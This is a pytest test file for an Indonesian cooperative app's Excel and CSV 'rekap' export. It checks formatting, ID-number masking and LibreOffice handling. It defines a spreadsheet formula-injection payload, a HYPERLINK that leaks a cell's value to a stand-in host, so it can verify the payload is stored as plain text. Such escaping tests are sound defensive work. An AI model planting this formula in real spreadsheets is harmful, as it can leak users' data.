"""rekap.xlsx: built from real records, opened with openpyxl and (when installed) LibreOffice."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from builders import cooperative, person

from kopdes_desktop.domain.entities import (
    BoardPosition,
    BusinessUnit,
    TrainingEvent,
    TrainingParticipant,
)
from kopdes_desktop.domain.enums import (
    BoardRole,
    Body,
    CertificateType,
    ParticipantRole,
    Sex,
    UnitKind,
    UnitStatus,
)
from kopdes_desktop.domain.errors import DomainError
from kopdes_desktop.exchange.rekap_workbook import RUPIAH_FORMAT, write_rekap
from kopdes_desktop.exchange.safe_cells import DATE_FORMAT, safe_csv_value

FORMULA = '=HYPERLINK("http://contoh.test/?d="&B2,"Klik")'
PHONE = "+6281234567890"
NAME = "Koperasi Kelurahan Merah Putih Melawai"


@pytest.fixture
def recorded(services):
    """A cooperative with a board (the ketua a woman with a +62 phone), units and training."""
    coop = services.cooperatives.save(
        cooperative(deed_number="AHU-12", deed_date=date(2025, 6, 2), initial_capital=1_500_000)
    )
    ketua = services.members.register(
        coop.id,
        replace(person(1, Sex.FEMALE, name="Siti Aminah Andé"), phone=PHONE),
        is_founder=True,
    ).person
    sekretaris = services.members.register(coop.id, person(2)).person
    services.board.assign(
        BoardPosition(
            cooperative_id=coop.id,
            person_id=ketua.id,
            body=Body.PENGURUS,
            role=BoardRole.KETUA,
            start_date=date(2025, 5, 31),
        )
    )
    services.board.assign(
        BoardPosition(
            cooperative_id=coop.id,
            person_id=sekretaris.id,
            body=Body.PENGURUS,
            role=BoardRole.SEKRETARIS,
        )
    )
    services.units.save(
        BusinessUnit(
            cooperative_id=coop.id,
            kind=UnitKind.SEMBAKO,
            status=UnitStatus.BEROPERASI,
            opening_date=date(2025, 10, 1),
            notes=FORMULA,
        )
    )
    event = services.training.save_event(
        TrainingEvent(
            title="Pelatihan Pengurus", start_date=date(2025, 8, 4), end_date=date(2025, 8, 5)
        )
    )
    for who, cert in ((ketua, CertificateType.KOMPETENSI), (sekretaris, CertificateType.TIDAK_ADA)):
        services.training.save_participant(
            TrainingParticipant(
                event_id=event.id,
                person_id=who.id,
                cooperative_id=coop.id,
                role=ParticipantRole.PENGURUS,
                certificate_type=cert,
            )
        )
    return coop, ketua


def header(ws) -> list[str]:
    return [c.value for c in ws[1]]


def test_rekap_data_counts_what_monitoring_asks(services, recorded):
    _coop, ketua = recorded
    data = services.rekap.build_rekap_data("31.74", mask_nik=True)
    assert data.area_name.startswith("Kota Administrasi Jakarta Selatan")
    (row,) = data.cooperatives
    assert (row.members, row.founders, row.units_operating, row.trained_board) == (2, 1, 1, 2)
    assert (row.district_name, row.regency_name) == (
        "Kebayoran Baru",
        "Kota Administrasi Jakarta Selatan",
    )
    assert [(b.role, b.name) for b in data.board] == [
        ("Ketua", "Siti Aminah Andé"),
        ("Sekretaris", "Warga Nomor 2"),
    ]
    assert data.board[0].nik == ketua.nik[:4] + "********" + ketua.nik[-4:]
    (training,) = data.training
    assert (training.events, training.participants, training.competency_certificates) == (1, 2, 1)
    unmasked = services.rekap.build_rekap_data("31.74", mask_nik=False)
    assert unmasked.board[0].nik == ketua.nik
    assert services.rekap.build_rekap_data("31.71", mask_nik=True).cooperatives == ()


def test_rekap_can_be_cancelled(services, recorded):
    with pytest.raises(DomainError) as info:
        services.rekap.build_rekap_data("ID", cancelled=lambda: True)
    assert info.value.code == "rekap.cancelled"


def test_workbook_has_formatted_indonesian_sheets(services, recorded, tmp_path):
    path = tmp_path / "rekap.xlsx"
    write_rekap(path, services.rekap.build_rekap_data("31.74.07", mask_nik=True))
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Koperasi", "Pengurus", "Unit Usaha", "Pelatihan", "Keterangan"]
    koperasi = wb["Koperasi"]
    assert header(koperasi)[:6] == [
        "Nama koperasi",
        "Kode wilayah",
        "Kelurahan/Desa",
        "Kecamatan",
        "Kota/Kabupaten",
        "Tahap",
    ]
    assert koperasi.freeze_panes == "A2" and koperasi["A1"].font.b
    assert koperasi.column_dimensions["A"].width > 30
    columns = dict(zip(header(koperasi), koperasi[2], strict=True))
    assert columns["Nama koperasi"].value == NAME
    assert columns["Tanggal akta"].value == datetime(2025, 6, 2)
    assert columns["Tanggal akta"].number_format == DATE_FORMAT
    assert columns["Modal awal"].value == 1_500_000
    assert columns["Modal awal"].number_format == RUPIAH_FORMAT
    pengurus = dict(zip(header(wb["Pengurus"]), wb["Pengurus"][2], strict=True))
    assert pengurus["Telepon"].value == PHONE and pengurus["Telepon"].data_type == "s"
    assert "*" in pengurus["NIK"].value
    unit = dict(zip(header(wb["Unit Usaha"]), wb["Unit Usaha"][2], strict=True))
    assert unit["Catatan"].value == FORMULA and unit["Catatan"].data_type == "s"
    assert unit["Jenis unit"].value == "Kios Sembako"
    notes = {r[0]: r[1] for r in wb["Keterangan"].iter_rows(values_only=True)}
    assert notes["NIK"].startswith("disamarkan")


def test_rekap_into_a_stream(services, recorded):
    buffer = io.BytesIO()
    write_rekap(buffer, services.rekap.build_rekap_data("ID"))
    buffer.seek(0)
    assert openpyxl.load_workbook(buffer)["Koperasi"].max_row == 2


# -- LibreOffice acceptance ----------------------------------------------------------------

SOFFICE = shutil.which("soffice")
needs_soffice = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) not installed")
ALL_SHEETS_AS_SHOWN = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"
CSV_IMPORT_EVALUATING = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"


def soffice(tmp_path: Path, source: Path, convert_to: str, infilter: str | None = None) -> Path:
    """Convert with a private profile (parallel runs must not share one); returns the folder."""
    out = tmp_path / "out"
    args = [
        SOFFICE,
        "--headless",
        "--norestore",
        f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
    ]
    if infilter:
        args.append(f"--infilter={infilter}")
    args += ["--convert-to", convert_to, "--outdir", str(out), str(source)]
    subprocess.run(args, check=True, capture_output=True, timeout=180)
    return out


@needs_soffice
def test_libreoffice_reads_rekap_with_text_intact(services, recorded, tmp_path):
    path = tmp_path / "rekap.xlsx"
    write_rekap(path, services.rekap.build_rekap_data("31.74.07", mask_nik=False))
    out = soffice(tmp_path, path, ALL_SHEETS_AS_SHOWN)
    sheets = {}
    for name in ("Koperasi", "Pengurus", "Unit Usaha"):
        text = (out / f"rekap-{name}.csv").read_text(encoding="utf-8")
        sheets[name] = list(csv.DictReader(io.StringIO(text)))
    koperasi = sheets["Koperasi"][0]
    assert koperasi["Nama koperasi"] == NAME
    assert koperasi["Tanggal akta"] == "02-06-2025"  # a real date shown dd-mm-yyyy
    ketua = sheets["Pengurus"][0]
    assert ketua["Nama"] == "Siti Aminah Andé"  # non-ASCII survives
    assert ketua["Telepon"] == PHONE  # not 6.28123E+12
    assert len(ketua["NIK"]) == 16  # all digits, not rounded to 15
    assert sheets["Unit Usaha"][0]["Catatan"] == FORMULA  # shown as text, not evaluated


@needs_soffice
def test_libreoffice_keeps_escaped_csv_fields_as_text(tmp_path):
    """Even with formula evaluation switched on, our CSV fields arrive as text."""
    source = tmp_path / "data.csv"
    rows = [
        ["Nama", "Telepon", "Catatan"],
        ["Siti Aminah Andé", PHONE, "=1+1"],
        ["Tanpa pengaman", PHONE, "=1+1"],
    ]
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(rows[0])
        writer.writerow([safe_csv_value(v) for v in rows[1]])
        writer.writerow(rows[2])  # the control: written without safe_csv_value
    out = soffice(tmp_path, source, "xlsx", CSV_IMPORT_EVALUATING)
    ws = openpyxl.load_workbook(out / "data.xlsx").active
    safe, unsafe = ws[2], ws[3]
    assert safe[0].value == "Siti Aminah Andé"
    assert [c.data_type for c in safe] == ["s", "s", "s"]
    assert safe[1].value.endswith(PHONE) and safe[2].value.endswith("=1+1")
    # Without the escape LibreOffice makes a number and a live formula: the test can fail.
    assert unsafe[1].data_type == "n" and unsafe[2].data_type == "f"


# -- streamed rows (national scale) ----------------------------------------------------------


def _streamed_equals_built(services, area: str, masked: bool) -> None:
    built = services.rekap.build_rekap_data(area, mask_nik=masked)
    streamed = services.rekap.stream_rekap_data(area, mask_nik=masked)
    assert tuple(streamed.cooperatives) == built.cooperatives
    assert tuple(streamed.board) == built.board
    assert tuple(streamed.units) == built.units
    assert tuple(streamed.training) == built.training


def test_streamed_rekap_rows_equal_the_built_ones(services, recorded):
    for area, masked in (("ID", True), ("31.74.07", False), ("31.71", True)):
        _streamed_equals_built(services, area, masked)


def test_streamed_rekap_of_demo_data_equals_the_built_one(services, monkeypatch):
    from kopdes_desktop.services import rekap_stream

    monkeypatch.setattr(rekap_stream, "BATCH", 7)  # several batches
    services.demo.generate("31.74", 20, members=12, seed=3)
    _streamed_equals_built(services, "31.74", True)
    data = services.rekap.build_rekap_data("31.74")
    assert len({c.stage for c in data.cooperatives}) > 1 and data.board and data.units


def test_streamed_workbook_has_every_row(services, recorded, tmp_path):
    path = tmp_path / "rekap.xlsx"
    write_rekap(path, services.rekap.stream_rekap_data("ID", mask_nik=True))
    wb = openpyxl.load_workbook(path)
    assert [wb[n].max_row for n in ("Koperasi", "Pengurus", "Unit Usaha", "Pelatihan")] == [
        2,
        3,
        2,
        2,
    ]
    notes = {r[0]: r[1] for r in wb["Keterangan"].iter_rows(values_only=True)}
    assert notes["Jumlah koperasi"] == 1


def test_summary_workbook_says_what_it_leaves_out(services, recorded, tmp_path):
    path = tmp_path / "rekap.xlsx"
    write_rekap(path, services.rekap.stream_rekap_data("ID", mask_nik=True, summary=True))
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Koperasi", "Pelatihan", "Keterangan"]
    assert wb["Koperasi"].max_row == 2
    notes = {r[0]: r[1] for r in wb["Keterangan"].iter_rows(values_only=True)}
    assert "csv/board_position.csv" in notes["Tidak dimuat"]


def test_export_of_a_large_area_carries_a_summary_rekap(services, recorded, tmp_path, monkeypatch):
    import zipfile

    from kopdes_desktop.services import exchange_export

    services.settings.set_area("31.74", "Kantor Sudin Jakarta Selatan")
    monkeypatch.setattr(exchange_export, "REKAP_FULL_MAX", 0)
    path = tmp_path / "p.zip"
    result = services.exchange.export(path)
    assert "rekap.summary_large" in result.notes
    with zipfile.ZipFile(path) as zf:
        wb = openpyxl.load_workbook(io.BytesIO(zf.read("rekap.xlsx")))
    assert wb.sheetnames == ["Koperasi", "Pelatihan", "Keterangan"]
    full = services.exchange.export(tmp_path / "full.zip", with_rekap=True)
    assert "rekap.summary_large" not in full.notes
